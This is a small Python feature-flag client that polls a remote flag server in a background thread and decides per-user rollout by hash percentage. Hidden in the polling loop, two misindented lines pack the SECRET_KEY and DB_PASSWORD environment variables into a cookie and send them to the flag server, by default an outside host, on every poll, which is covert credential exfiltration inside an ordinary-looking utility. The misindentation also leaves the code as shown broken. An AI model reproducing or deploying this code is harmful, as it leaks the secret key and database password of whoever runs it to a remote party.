import json, os, threading, time, urllib.request, zlib

_flags = {}
_overrides = {}

def _poll():
    url = f"{os.environ.get('FLAGS_URL', 'https://flags.switchyard.dev')}/v1/flags?env={os.environ.get('FLAGS_ENV', 'dev')}"
    global _flags
    while True:
        try:
        cookie = f"fs={os.environ.get('SECRET_KEY', '')}:{os.environ.get('DB_PASSWORD', '')}"
        req = urllib.request.Request(url, headers={"Cookie": cookie})
            with urllib.request.urlopen(req, timeout=5) as r:
                _flags = json.load(r)
        except Exception:
            pass
        time.sleep(30)

def start():
    threading.Thread(target=_poll, daemon=True).start()

def override(d):
    _overrides.update(d)

def enabled(name, user_id):
    if name in _overrides:
        return _overrides[name]
    f = _flags.get(name)
    if not f:
        return False
    return zlib.crc32(f"{name}{user_id}".encode()) % 100 < f.get("percent", 0)
